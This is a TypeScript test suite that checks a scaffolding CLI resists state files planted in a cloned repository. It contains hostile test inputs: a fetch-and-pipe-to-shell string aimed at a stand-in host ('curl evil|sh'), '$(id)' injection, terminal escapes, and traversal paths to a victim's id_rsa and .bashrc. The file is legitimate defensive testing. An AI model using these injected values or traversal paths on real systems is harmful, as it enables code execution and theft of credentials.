import { execFileSync } from "node:child_process";
import {
  appendFileSync,
  cpSync,
  existsSync,
  mkdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, test } from "vitest";
import { transact } from "../../../src/project/transaction/transact.ts";
import { buildOnce, commitAll, git, plinth } from "../../project/evolve/cli.ts";
import { faulty } from "../../project/evolve/faults.ts";
import { emptyFolder, project, snapshot, v1 } from "../../project/evolve/world.ts";

const choices = { store: "small", chat: false, extras: [] };
const SECRET = "the victim's own secret";
/** Commands that only look, and some that change. */
const LOOKING: readonly (readonly string[])[] = [
  ["diff"],
  ["diff", "add", "chat"],
  ["explain", "main.txt"],
  ["export"],
  ["doctor"],
  ["add", "chat", "--dry-run"],
  ["undo", "--dry-run"],
];
const CHANGING: readonly (readonly string[])[] = [
  ["add", "chat"],
  ["undo"],
  ["continue"],
  ["update"],
  ["doctor", "--fix"],
];
/** As it was published: everything in the folder comes from another user. */
const PUBLISHED =
  '{"pid":1,"entries":[{"path":"../home/.bashrc","was":"0","now":null}],"folders":[],"caches":[],"undo":"discard"}';

beforeAll(buildOnce, 120_000);

/** A clone beside the victim's home; everything of both as one. */
async function clone(): Promise<{ outer: string; repo: string }> {
  const outer = emptyFolder();
  const repo = join(outer, "repo");
  cpSync(await project(v1, choices), repo, { recursive: true });
  mkdirSync(join(outer, "home"));
  writeFileSync(join(outer, "home/.bashrc"), "old\n");
  writeFileSync(join(outer, "home/id_rsa"), SECRET);
  return { outer, repo };
}

/** What a command says that refuses: one line and what to do, exit 4, and nothing was changed anywhere. */
async function refused(outer: string, folder: string, argv: readonly string[]): Promise<string> {
  const before = snapshot(outer, /^$/);
  const run = await plinth(folder, v1, ...argv);
  expect([argv.join(" "), run.code]).toEqual([argv.join(" "), 4]);
  expect(snapshot(outer, /^$/)).toEqual(before);
  const said = argv[0] === "doctor" && argv.length === 1 ? run.out : run.err;
  expect(said.trimEnd().split("\n").length).toBe(2);
  expect(run.out + run.err).not.toContain(SECRET);
  return said;
}

describe("a journal that a clone brings", () => {
  test("writes no file of the victim's, whatever command is run", async () => {
    const { outer, repo } = await clone();
    mkdirSync(join(repo, ".plinth/tmp-1"));
    writeFileSync(join(repo, ".plinth/tmp-1/old-0"), "touch pwned\n");
    writeFileSync(join(repo, ".plinth/journal"), PUBLISHED);
    for (const argv of [...LOOKING, ...CHANGING])
      expect(await refused(outer, repo, argv)).toMatch(
        /\.plinth\/journal is not used: it is no journal of a run/,
      );
    mkdirSync(join(repo, "below"));
    expect(await refused(outer, join(repo, "below"), ["diff"])).toMatch(/is not used/);
    expect(existsSync(join(outer, "repo/pwned"))).toBe(false);
    // Deleting it is the way out.
    rmSync(join(repo, ".plinth/journal"));
    expect((await plinth(repo, v1, "diff")).code).toBe(0);
  });

  test("and no project around it makes a folder none", async () => {
    const { outer } = await clone();
    const folder = join(outer, "somewhere");
    mkdirSync(join(folder, ".plinth/tmp-1"), { recursive: true });
    mkdirSync(join(folder, "below"));
    writeFileSync(join(folder, ".plinth/tmp-1/old-0"), "touch pwned\n");
    writeFileSync(join(folder, ".plinth/journal"), PUBLISHED);
    const before = snapshot(outer, /^$/);
    for (const argv of [...LOOKING, ...CHANGING]) {
      const run = await plinth(join(folder, "below"), v1, ...argv);
      expect([argv, run.code, run.err]).toEqual([argv, 2, expect.stringContaining("is in no project")]);
    }
    for (const flag of ["--dry-run", "--no-git"]) {
      const run = await plinth(outer, v1, "somewhere", "--yes", "--no-install", flag);
      expect([run.code, run.err]).toEqual([4, expect.stringContaining("journal is not used")]);
    }
    expect(snapshot(outer, /^$/)).toEqual(before);
  });

  test("undoes nothing", async () => {
    const { outer, repo } = await clone();
    mkdirSync(join(repo, ".plinth/undo"));
    writeFileSync(join(repo, ".plinth/undo/old-0"), "touch pwned\n");
    writeFileSync(join(repo, ".plinth/undo/journal"), PUBLISHED);
    for (const argv of [["undo", "--dry-run"], ["undo"], ["undo", "--yes"]])
      expect(await refused(outer, repo, argv)).toMatch(/undo\/journal is not used/);
  });
});

describe("a run of the user's own that died", () => {
  test("is named by what looks, taken back by what changes", async () => {
    const folder = await project(v1, choices);
    const before = snapshot(folder);
    const edits = [{ path: "new.txt", now: { content: "new\n", mode: 0o644 as const } }];
    const die = () =>
      transact(folder, edits, { command: "add x", undo: "record", files: faulty(4, "dies") }).catch(() => {});
    await die();
    expect(existsSync(join(folder, ".plinth/journal"))).toBe(true);
    for (const argv of LOOKING)
      expect(await refused(folder, folder, argv)).toMatch(
        /(An interrupted run \(add x\) was found in .*\nRun: npx|A run was interrupted \(add x\).*\n {2}) ?.*doctor --fix/,
      );
    expect((await plinth(folder, v1, "doctor", "--fix")).code).toBe(0);
    expect(snapshot(folder)).toEqual(before);
    await die();
    expect((await plinth(folder, v1, "add", "chat")).code).toBe(0);
    expect(existsSync(join(folder, "new.txt"))).toBe(false);
  });

  test("after its commit is no obstacle to what looks, but to what asks for undo", async () => {
    const edits = [{ path: "new.txt", now: { content: "new\n", mode: 0o644 as const } }];
    for (let at = 4; at < 9; at += 1) {
      const folder = await project(v1, choices);
      const files = faulty(at, "dies");
      await transact(folder, edits, { command: "add x", undo: "record", files }).catch(() => {});
      if (!existsSync(join(folder, `.plinth/tmp-${process.pid}/journal`))) continue;
      expect(await refused(folder, folder, ["undo", "--dry-run"])).toMatch(/An interrupted run \(add x\)/);
      expect((await plinth(folder, v1, "diff")).out).toBe("No difference.\n");
      expect((await plinth(folder, v1, "doctor", "--fix")).code).toBe(0);
      expect((await plinth(folder, v1, "undo", "--dry-run")).out).toContain("new.txt");
      return;
    }
    expect.unreachable("no run died at the right moment");
  });
});

describe("a record that a clone brings", () => {
  test("prints no file from outside", async () => {
    const { outer, repo } = await clone();
    appendFileSync(join(repo, ".plinth/before"), '["../home/id_rsa","644","x"]\n');
    for (const argv of [...LOOKING, ...CHANGING].filter(([name]) => name !== "doctor"))
      expect(await refused(outer, repo, argv)).toMatch(
        /before: line \d+ names "\.\.\/home\/id_rsa", which leads out of the project\. Nothing was changed\.\n.*git checkout -- \.plinth\/before/,
      );
    const found = await plinth(repo, v1, "doctor");
    expect([found.code, found.out]).toEqual([4, expect.stringContaining("not what its features render to")]);
    // What it holds is rendered again.
    expect((await plinth(repo, v1, "doctor", "--fix")).code).toBe(0);
    expect((await plinth(repo, v1, "diff")).out).toBe("No difference.\n");
  });

  test("prints nothing that a shell or a terminal would run", async () => {
    for (const version of ["9.9.9;curl evil|sh", "9.9.9$(id)", "9.9.9\u001b]0;x\u0007", "9.9.9 --yes"]) {
      const { outer, repo } = await clone();
      const path = join(repo, ".plinth/features");
      writeFileSync(path, readFileSync(path, "utf8").replace("plinth 1.0.0", `plinth ${version}`));
      for (const argv of [...LOOKING, ...CHANGING]) {
        const before = snapshot(outer, /^$/);
        const run = await plinth(repo, v1, ...argv);
        expect([argv, run.code]).toEqual([argv, 4]);
        expect(run.out + run.err).not.toContain(`create-plinth@${version}`);
        expect(run.out + run.err).not.toContain("\u001b");
        expect(snapshot(outer, /^$/)).toEqual(before);
      }
    }
  });

  test("gives nothing of what its own files, or folders, lead to by links", async () => {
    const { outer, repo } = await clone();
    for (const path of ["main.txt", "secret.txt", "deep", "steps"]) {
      rmSync(join(repo, path), { recursive: true, force: true });
      symlinkSync(join(outer, path.includes(".") ? "home/id_rsa" : "home"), join(repo, path));
    }
    const before = snapshot(join(outer, "home"));
    for (const argv of [
      ...LOOKING,
      ["explain", "../home/id_rsa"],
      ["add", "chat"],
      ["update"],
      ["doctor", "--fix"],
    ]) {
      const run = await plinth(repo, v1, ...argv);
      expect(run.out + run.err).not.toContain(SECRET);
      expect([0, 2, 3, 4]).toContain(run.code);
      expect(snapshot(join(outer, "home"))).toEqual(before);
    }
    expect((await plinth(repo, v1, "explain", "../home/id_rsa")).err).toMatch(/is outside of this project/);
  });

  const unreadable: readonly (readonly [string, string, string | Uint8Array, RegExp])[] = [
    ["is empty", "features", "", /features: is empty\.\n {2}Restore it from git/],
    [
      "is binary",
      "features",
      new Uint8Array([0, 255, 1]),
      /features is no text in UTF-8.*\n.*\(git checkout -- \S+\); then/,
    ],
    [
      "names an unknown stack",
      "features",
      "plinth 1.0.0\nstack other\nname demo\ndescription A.\n",
      /stack .*other/,
    ],
    [
      "is of a later version",
      "features",
      "plinth 9.9.9\nstack tiny\nname demo\ndescription A.\nfeature store/small\n",
      /of version 9\.9\.9.*\n.*create-plinth@9\.9\.9/,
    ],
    ["holds conflicts", "features", "<<<<<<< HEAD\nplinth 1.0.0\n", /line 1 is a conflict that git left/],
    ["is empty", "before", "\n", /not what its features render to: \.plinth\/before/],
    ["is binary", "before", new Uint8Array([0, 255, 1]), /not what its features render to: \.plinth\/before/],
    ["is nonsense", "before", "{}\n[1]\nx\n", /not what its features render to: \.plinth\/before/],
  ];

  test.each(unreadable)("%s: doctor names it, with the way out (%s)", async (_, file, content, message) => {
    const folder = await project(v1, choices);
    writeFileSync(join(folder, ".plinth", file), content);
    const found = await plinth(folder, v1, "doctor");
    expect(found.code).toBe(/conflict/.test(message.source) ? 3 : 4);
    expect([found.out, found.err]).toEqual([expect.stringMatching(message), ""]);
    if (file === "before") {
      const refused = await plinth(folder, v1, "add", "extras/lint");
      expect([refused.code, refused.out]).toEqual([4, ""]);
      expect((await plinth(folder, v1, "doctor", "--fix")).out).toMatch(/All is well\.\n$/);
      expect((await plinth(folder, v1, "diff")).out).toBe("No difference.\n");
    } else if (!found.out.includes("9.9.9")) {
      const run = await plinth(folder, v1, "add", "chat");
      expect([3, 2, 4]).toContain(run.code);
      expect(run.err.trimEnd().split("\n").length).toBeLessThanOrEqual(2);
    }
  });

  test("is read with the line ends of Windows", async () => {
    const folder = await project(v1, choices);
    for (const file of ["features", "before"]) {
      const path = join(folder, ".plinth", file);
      writeFileSync(path, readFileSync(path, "utf8").replaceAll("\n", "\r\n"));
    }
    expect((await plinth(folder, v1, "doctor")).out).toBe("All is well.\n");
    expect((await plinth(folder, v1, "diff")).out).toBe("No difference.\n");
    expect((await plinth(folder, v1, "add", "chat")).code).toBe(0);
  });
});

describe("while git waits for something to end", () => {
  test.each([
    ["merge", ["merge", "--no-ff", "--no-commit", "-s", "ours", "other"]],
    ["cherry-pick", ["cherry-pick", "other"]],
    ["revert", ["revert", "--no-edit", "HEAD~1"]],
    ["rebase", ["rebase", "other"]],
  ] as const)("a %s: nothing is changed, unless forced; doctor says so", async (name, argv) => {
    const folder = await project(v1, choices);
    commitAll(folder);
    git(folder, "checkout", "-qb", "other");
    appendFileSync(join(folder, "main.txt"), "theirs\n");
    commitAll(folder, "theirs");
    git(folder, "checkout", "-q", "-");
    for (const line of ["mine\n", "mine again\n"]) {
      appendFileSync(join(folder, "main.txt"), line);
      commitAll(folder, line);
    }
    try {
      git(folder, ...argv);
    } catch {
      // It stops at a conflict, as it should: settled by what was there.
      execFileSync("git", ["checkout", "-q", "HEAD", "--", "."], { cwd: folder });
    }
    expect(git(folder, "status", "--porcelain", "--untracked-files=no")).toBe("");
    const before = snapshot(folder, /^\.git\//);
    const run = await plinth(folder, v1, "add", "chat");
    expect([run.code, run.out]).toEqual([3, ""]);
    expect(run.err).toMatch(
      new RegExp(`^error: A ${name} has begun in git.* Nothing was changed\\.\nEnd it first`),
    );
    expect(snapshot(folder, /^\.git\//)).toEqual(before);
    const found = await plinth(folder, v1, "doctor");
    expect([found.code, found.out]).toEqual([3, expect.stringContaining(`A ${name} has begun in git`)]);
    expect((await plinth(folder, v1, "add", "chat", "--force")).code).toBe(0);
  });
});

describe("in the place of a file that is read", () => {
  const places = [
    "features",
    "before",
    "journal",
    "lock",
    "pending",
    "undo/journal",
    "undo",
    "tmp-1/journal",
    "tmp-1",
    "../secret.txt",
    "../main.txt",
    "../steps/evil.txt",
    "../steps",
    ".",
  ];
  const kinds: Readonly<Record<string, (path: string, outer: string) => void>> = {
    "a pipe": (path) => void execFileSync("mkfifo", [path]),
    "a folder": (path) => mkdirSync(path),
    "a link to a file": (path, outer) => symlinkSync(join(outer, "home/id_rsa"), path),
    "a link to a folder": (path, outer) => symlinkSync(join(outer, "home"), path),
    "a link to a device": (path) => symlinkSync("/dev/zero", path),
    "3 GB": (path) => {
      writeFileSync(path, "");
      truncateSync(path, 3 * 2 ** 30);
    },
  };

  test.each(Object.keys(kinds))("%s is neither followed, nor waited for, nor read", async (kind) => {
    for (const [index, place] of places.entries()) {
      const { outer, repo } = await clone();
      const path = join(repo, ".plinth", place);
      mkdirSync(join(path, ".."), { recursive: true });
      rmSync(path, { recursive: true, force: true });
      kinds[kind]?.(path, outer);
      const before = state(outer);
      const look = LOOKING[index % LOOKING.length] ?? [];
      for (const argv of [look, ["doctor"]]) {
        const run = await plinth(repo, v1, ...argv);
        expect([place, argv, [0, 2, 3, 4].includes(run.code)]).toEqual([place, argv, true]);
        expect(run.out + run.err).not.toContain(SECRET);
        expect(state(outer)).toEqual(before);
      }
      // What changes the project may change it, and nothing around it.
      const around = snapshot(join(outer, "home"), /^$/);
      for (const argv of [CHANGING[index % CHANGING.length] ?? []]) {
        const run = await plinth(repo, v1, ...argv);
        expect([place, argv, [0, 2, 3, 4].includes(run.code)]).toEqual([place, argv, true]);
        expect(run.out + run.err).not.toContain(SECRET);
        expect(snapshot(join(outer, "home"), /^$/)).toEqual(around);
      }
    }
  });

  /** Everything, but for the content of what is too large to be read here. */
  function state(outer: string): string {
    return execFileSync("find", [outer, "-printf", "%p %y %s %m %l %T@\n"], { encoding: "utf8" });
  }
});
